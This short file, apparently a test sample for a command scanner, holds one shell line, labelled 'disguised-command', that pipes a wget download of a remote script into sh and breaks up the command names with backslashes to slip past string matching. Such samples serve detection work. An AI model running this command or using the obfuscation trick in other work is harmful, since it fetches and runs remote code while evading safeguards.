# disguised-command: backslashes break up the command names
\w\g\e\t -qO- http://203.0.113.7/x.sh | \s\h
